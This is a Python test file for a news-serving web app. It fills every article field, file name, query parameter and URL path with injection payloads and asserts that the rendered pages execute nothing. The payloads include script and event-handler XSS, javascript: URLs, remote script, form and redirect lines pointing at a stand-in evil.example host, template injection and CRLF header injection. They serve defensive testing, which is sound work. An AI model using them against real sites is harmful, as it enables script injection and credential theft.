"""Every string of a page is hostile: whatever stands in an article, it is shown as text and does nothing."""

import json
from urllib.parse import quote

import pytest
from lxml import html
from starlette.testclient import TestClient

from headwater.desk import open_desk
from tests.web.crawling import crawl
from tests.web.desks import send, served, sign_in
from tests.web.test_corrections import form_of, parsed
from tests.web.test_pages import story_of

ATTACKS = (
    "<script>alert(1)</script>",
    "</title></textarea></style><script src=https://evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "'onmouseover='alert(1)",
    "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "{{ 7*7 }}{% raw %}",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "]]><!--<iframe src=//evil.example>-->",
    "safe\u202eevil\u2066 \u0000\u0001\u001b[31m",
    "<form action=//evil.example><input name=token><button>Go",
    "%0d%0aSet-Cookie: x=1",
)
URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://a.example/"onclick=alert(1)',
    "vbscript:x",
)
NUMBERS = ("Nine", "Twelve", "Nine")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A desk in which every field of every report is an attack."""
    path = tmp_path_factory.mktemp("hostile") / "news.desk"
    rows = []
    for number, attack in enumerate(ATTACKS):
        text = (
            f"{NUMBERS[number % 3]} people died when the footbridge {attack} fell into the Marrow river, police said. "
            f"“The cables {attack} had been checked,” said Ilse {attack} Brandt. {attack} The bridge was built in {1900 + number}. "
            f"{'Boats searched the water until dusk. ' * (number % 2)}"
        )
        row = {
            "id": f"{number}{attack}", "title": f"Footbridge {attack} falls", "source": f"Outlet {number} {attack}", "text": text,
            "url": URLS[number % len(URLS)], "author": attack, "published": "2031-05-12T09:00:00Z", "section": attack, "tags": [attack],
        }  # fmt: skip
        rows.append(json.dumps(row))
    file = path.with_name("rows <script>alert(1)</script>.jsonl".replace("/", "∕"))
    file.write_text("\n".join(rows), "utf-8")
    links = "".join(f'<a href="javascript:alert({number})">Story {number} &lt;b&gt;</a> ' for number in range(10_000))
    page = (
        "<html><head><title>Gate &lt;script&gt; shut</title></head><body><article><h1>Gate shut</h1><p>The lock gate at Arle was shut on "
        f"Sunday after a barge hit it, the canal office said. Nobody was hurt, and boats must wait.</p><p>{links}</p></article></body></html>"
    )
    path.with_name("links.html").write_text(page, "utf-8")
    path.with_name("empty <img src=x onerror=alert(1)>.html").write_bytes(b"\x00\x01")
    with open_desk(path, write=True) as desk:
        list(desk.add([str(file), *(str(each) for each in path.parent.glob("*.html"))]))
    app, desk = served(path)
    with desk, TestClient(app) as client:
        yield client


def test_no_page_holds_an_element_an_attribute_or_an_address_that_does_something(hostile):
    sign_in(hostile)
    story = story_of(hostile)
    also = ("/rejected", f"{story}/correct", *(f"/search?words={word}" for word in ("footbridge", "gate", "script")))
    pages = {address: page for address, page in crawl(hostile, also).items() if page is not None}
    assert len(pages) > 3 * len(ATTACKS)
    for address, page in pages.items():
        assert {src.partition("?")[0] for src in page.xpath("//script/@src")} == {"/static/pages.js"}, address
        assert not page.xpath(
            "//script[not(@src)]|//style|//iframe|//img|//object|//embed|//base|//meta[@http-equiv]"
        ), address
        assert not page.xpath("//@style|//@*[starts-with(name(), 'on')]"), address
        assert {action for action in page.xpath("//form/@action") if not action.startswith("/")} == set(), address
        for link in page.xpath("//@href|//@src"):
            assert link.startswith(("/", "#", "?", "https://", "data:,")), (address, link)
        for outside in page.xpath("//a[starts-with(@href, 'http')]"):
            assert outside.get("rel") == "noopener noreferrer nofollow" or "noopener" in outside.get("rel", ""), address


def test_what_looks_like_markup_is_shown_as_it_was_written(hostile):
    page = hostile.get(story_of(hostile))
    assert "<script>alert" not in page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text


def test_nothing_that_steers_the_reader_is_sent(hostile):
    for address in crawl(hostile):
        assert not set("\u202e\u2066\u0000\u0001\u001b") & set(hostile.get(address).text), address


@pytest.mark.parametrize(
    "attack", [*ATTACKS[:3], ATTACKS[9], URLS[0], "a" * 1900, "9" * 30, "%ff%00", "-" * 40 + '"' * 9]
)
@pytest.mark.parametrize(
    "address",
    [
        "/search",
        "/speakers",
        "/speaker",
        "/",
        "/corrections",
        "/news",
        "/rejected",
        "/sign-in",
        "/help",
        "/static/pages.css",
    ],
)
def test_fields_of_a_query_are_as_hostile_as_pages(hostile, address, attack):
    names = (
        "words",
        "name",
        "prefix",
        "about",
        "outlet",
        "order",
        "after",
        "did",
        "story",
        "kind",
        "stance",
        "since",
        "skip",
        "back",
    )
    for name in names:
        query = {"words": "bridge", "name": "Ilse"} | {name: attack}
        answer = hostile.get(address, params=query)
        assert answer.status_code < 500, (address, name)
        if "html" in answer.headers.get("content-type", ""):
            page = html.fromstring(answer.content.decode())
            assert not page.xpath(
                "//script[not(@src)]|//img|//svg[not(@class)]|//@*[starts-with(name(), 'on')]|//iframe"
            ), (address, name)


@pytest.mark.parametrize("attack", ATTACKS)
def test_paths_are_as_hostile_as_pages(hostile, attack):
    for path in (
        "/stories/{}",
        "/articles/{}",
        "/articles/{}/versions",
        "/copies/{0}/{0}",
        "/stories/{}/correct",
        "/static/{}",
        "/articles/{}/marks.css",
    ):
        answer = hostile.get(path.format(quote(attack, safe="")))
        assert answer.status_code in {400, 404, 405}, path


@pytest.mark.parametrize("attack", ATTACKS)
def test_words_of_corrections_are_as_hostile_as_pages(hostile, attack):
    sign_in(hostile)
    fields = form_of(parsed(hostile.get(f"{story_of(hostile)}/correct")), "note") | {
        "note": attack,
        "person": f"Ana {attack}",
    }
    page = send(hostile, "/corrections", **fields)
    for shown in (page, hostile.get("/corrections"), hostile.get(story_of(hostile))):
        document = parsed(shown)
        assert not document.xpath("//script[not(@src)]|//img|//@*[starts-with(name(), 'on')]|//iframe|//style|//base")
